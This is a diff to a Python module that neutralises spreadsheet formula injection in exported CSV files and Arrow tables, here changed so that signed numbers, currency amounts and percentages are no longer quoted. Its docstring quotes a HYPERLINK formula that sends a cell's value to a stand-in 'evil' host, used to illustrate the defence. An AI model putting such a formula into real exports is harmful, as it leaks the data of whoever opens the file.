@@ -4,7 +4,10 @@ Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, 
 starts with a tab or carriage return followed by one), so `=HYPERLINK("https://evil/?"&A1,"x")` in a
 question or a result row would run on the reader's machine. OWASP's advice
 (https://owasp.org/www-community/attacks/CSV_Injection): prefix such cells with a single quote, which
-spreadsheets show as text. Numbers stay numbers; only text cells change.
+spreadsheets show as text. Numbers stay numbers; only text cells change, and text that is a number
+as people write one (`-5`, `-1,234.50`, `-12.5%`, `+$3.20`) stays as it is: nothing in it can call a
+function or reach another cell, and the quote made `-12.5%` text for every reader (pandas, a database
+load, a spreadsheet) where it was a signed percentage.
 """
 
 from __future__ import annotations
@@ -16,11 +19,15 @@ from typing import Any
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 _FORMULA_REGEX = "^[=+\\-@\\t\\r]"  # the same set, for Arrow's regex kernel
+# A signed number as written (digits, separators, a currency sign, an exponent, a percent): no letter
+# but an exponent's, no operator but the sign. Python's `re` and Arrow's RE2 read it alike.
+_NUMBER_LIKE = "^[+-]?[$€£¥]?[0-9.,]*[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?%?$"
+_NUMBER = re.compile(_NUMBER_LIKE)
 
 
 def neutralise_cell(value: Any) -> Any:
     """``value`` made inert for a spreadsheet: text starting like a formula gets a leading quote."""
-    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.match(value):
         return "'" + value
     return value
 
@@ -37,15 +44,16 @@ def neutralise_table(table: Any) -> Any:
         if pa.types.is_dictionary(kind):
             column, kind = column.cast(kind.value_type), kind.value_type
         if pa.types.is_string(kind) or pa.types.is_large_string(kind):
-            risky = pc.match_substring_regex(column, _FORMULA_REGEX)
+            risky = pc.and_(
+                pc.match_substring_regex(column, _FORMULA_REGEX),
+                pc.invert(pc.match_substring_regex(column, _NUMBER_LIKE)),
+            )
             quote, empty = pa.scalar("'", kind), pa.scalar("", kind)
             column = pc.if_else(risky, pc.binary_join_element_wise(quote, column, empty), column)
         columns.append(column)
     return pa.table(columns, names=table.column_names)
 
 
-# A cell that is a plain number ("-5", "+1.5e3") stays as it is: spreadsheets read it as that number.
-_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
 MAX_CSV_BYTES = 50 * 2**20  # what may be attached at most (core/tools.py); larger is refused here too
 _BOM = "\ufeff"
 
@@ -89,7 +97,7 @@ def neutralise_csv(data: bytes, *, limit: int = MAX_CSV_BYTES, delimiter: str = 
     changed = quote_all = False
     for row in rows:
         for i, cell in enumerate(row):
-            if cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
+            if cell.startswith(FORMULA_STARTS) and not _NUMBER.match(cell):
                 row[i] = "'" + cell
                 changed = True
             if _HIDDEN_START.search(row[i]):
